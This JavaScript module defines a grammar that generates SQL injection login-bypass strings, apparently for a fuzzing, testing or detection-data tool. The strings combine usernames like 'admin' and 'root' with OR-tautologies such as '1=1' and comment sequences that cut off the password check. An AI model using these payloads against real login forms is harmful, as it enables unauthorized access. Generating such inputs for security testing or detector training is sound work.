import { LOGIN_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** What people type into login forms: a name, a condition that always holds, the password test cut off. */
export const authBypass = sqlGenerator({
  name: 'auth-bypass',
  places: LOGIN_PLACES,
  rules: {
    start: [
      '{open}{cut}',
      '{open} {or} {truth}{cut}',
      '{open} {or} {truth}',
      '{open}{or}{truth-glued}{cut}',
      '{open} {or} {quote}{letter:a}{quote}={quote}{letter:a}',
      '{open} {or} {quote}{quote}={quote}',
    ],
    value: ['admin', 'admin', 'root', '', 'Administrator', 'user'],
    cut: [' {comment}', '{comment}', '{comment}'],
    or: ['or', 'OR', 'Or', '||', 'oR'],
    truth: [
      '1=1',
      '1',
      'true',
      '{digit:a}={digit:a}',
      '{quote}{letter:a}{quote}={quote}{letter:a}{quote}',
      '1=1 LIMIT 1',
      '2>1',
      '{quote}x{quote} like {quote}x{quote}',
      '1 or 1=1',
      'name is not null',
      '1 in (1)',
    ],
    'truth-glued': ['(1=1)', '{quote}1{quote}={quote}1{quote}', '(1)', '(2)>(1)'],
  },
});
